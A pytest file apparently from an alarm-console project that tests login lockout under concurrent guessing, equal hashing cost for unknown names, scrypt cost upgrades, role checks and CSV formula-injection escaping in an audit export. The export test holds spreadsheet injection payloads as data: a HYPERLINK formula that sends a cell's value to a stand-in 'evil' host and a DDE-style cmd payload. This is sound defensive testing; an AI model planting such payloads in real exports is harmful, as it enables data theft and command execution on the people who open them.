"""Attacks on logins, roles and the audit export, each a test that failed before the lock-down."""

from __future__ import annotations

import csv
import sqlite3
import threading
import time

import pytest

from console.audit.auth import MAX_FAILURES, SCRYPT_N, AuthError, LockedOut, Session, UserDirectory, hash_cost, hash_password
from console.audit.permissions import Actor, Gate
from console.audit.trail import export_csv
from console.store.store import Store
from tests.test_alarm_states import T0, FakeClock
from tests.test_alarms import engine, feed  # noqa: F401 (engine is a fixture)

FAST_N = 2**14  # the lockout race needs many hashes; the cost factor does not change it


def test_forty_concurrent_wrong_logins_lock_the_name(tmp_path):
    path = tmp_path / "c.sqlite3"
    setup = UserDirectory(path, scrypt_n=FAST_N)
    setup.add("王工", "operator", "correct horse")
    desks = [UserDirectory(path, scrypt_n=FAST_N) for _ in range(4)]  # four desks on one cache file
    start = threading.Barrier(40)
    outcomes: list[str] = []

    def attempt(i: int) -> None:
        start.wait()
        try:
            desks[i % 4].authenticate("王工", f"guess {i}")
        except LockedOut:
            outcomes.append("locked")
        except AuthError:
            outcomes.append("wrong")

    threads = [threading.Thread(target=attempt, args=(i,)) for i in range(40)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    assert len(outcomes) == 40
    (until,) = sqlite3.connect(path).execute("SELECT locked_until FROM users WHERE name = '王工'").fetchone()
    assert until is not None and until > time.time()
    with pytest.raises(LockedOut):
        setup.authenticate("王工", "correct horse")
    for d in desks + [setup]:
        d.close()


def test_an_unknown_name_costs_a_hash_like_a_known_one(tmp_path):
    users = UserDirectory(tmp_path / "c.sqlite3", scrypt_n=FAST_N)
    users.add("王工", "operator", "correct horse")
    hashed = []
    import console.audit.auth as auth

    real = auth._scrypt

    def counting(*args):
        hashed.append(args[2])
        return real(*args)

    auth._scrypt = counting
    try:
        for name in ("王工", "nobody"):
            with pytest.raises(AuthError):
                users.authenticate(name, "guess")
    finally:
        auth._scrypt = real
    # the dummy is made once (then cached); each attempt verifies one hash of the same cost
    assert hashed.count(FAST_N) >= 2 and set(hashed) == {FAST_N}
    users.close()


def test_passwords_are_hashed_at_n_2_17_and_old_hashes_upgraded_at_login(tmp_path):
    assert SCRYPT_N == 2**17 and hash_cost(hash_password("correct horse")) == 2**17
    path = tmp_path / "c.sqlite3"
    old = UserDirectory(path, scrypt_n=2**14)
    old.add("王工", "operator", "correct horse")
    old.close()
    users = UserDirectory(path)
    assert users.authenticate("王工", "correct horse") == "operator"
    (stored,) = sqlite3.connect(path).execute("SELECT password FROM users").fetchone()
    assert hash_cost(stored) == 2**17
    assert users.authenticate("王工", "correct horse") == "operator"  # the upgraded hash verifies
    users.close()


def test_an_exported_cell_starting_like_a_formula_is_escaped(tmp_path):
    store = Store(tmp_path / "c.sqlite3", retention_days=None)
    store.audit('=HYPERLINK("http://evil/?"&A1,"click")', "auth.login", "user:x", "", outcome="denied", ts=T0)
    store.audit("op", "task.edit", "+1+cmd|' /C calc'!A0", {"title": "@SUM(1)"}, outcome="-2", ts=T0 + 1)
    store.close()
    out = tmp_path / "audit.csv"
    export_csv(tmp_path / "c.sqlite3", out)
    with open(out, encoding="utf-8-sig", newline="") as f:
        rows = list(csv.DictReader(f))
    assert rows[0]["user"] == "'=HYPERLINK(\"http://evil/?\"&A1,\"click\")"
    assert rows[1]["target"].startswith("'+1") and rows[1]["outcome"] == "'-2"
    assert rows[1]["detail"] == "title=@SUM(1)"  # not at the start of the cell: harmless
    assert rows[1]["user"] == "op"


def test_the_engine_checks_the_role_itself_and_audits_a_refusal(hub, engine, store):
    feed(hub, [2.5] * 4)
    (a,) = engine.open_alarms()
    engine.ack(a.id, Actor("访客", "viewer"))
    engine.shelve(a.id, Session(), 600, "nobody logged in")
    store.flush()
    assert engine.open_alarms()[0].state == "unack"
    assert store.query("SELECT user, action, outcome FROM audit ORDER BY id") == [
        ("访客", "alarm.ack", "denied: role viewer may not alarm.ack"),
        ("-", "alarm.shelve", "denied: not logged in"),
    ]
    with pytest.raises(AttributeError):
        engine.ack(a.id, "op")  # a bare name carries no role: no way round the check


def test_a_gate_audits_actions_and_refusals_with_user_time_target_outcome(tmp_path):
    store = Store(tmp_path / "c.sqlite3", retention_days=None)
    session = Session()
    gate = Gate(session, store.audit)
    assert not gate.attempt("wall.veto", "screen:north")
    session.login_auto("王工", "operator")
    assert gate.attempt("wall.veto", "screen:north", alarm=7)
    store.flush()
    rows = store.query("SELECT ts, user, action, target, outcome FROM audit WHERE action = 'wall.veto' ORDER BY id")
    assert [r[1:] for r in rows] == [("-", "wall.veto", "screen:north", "denied: not logged in"),
                                     ("王工", "wall.veto", "screen:north", "ok")]
    assert all(r[0] > 1e9 for r in rows)
    store.close()
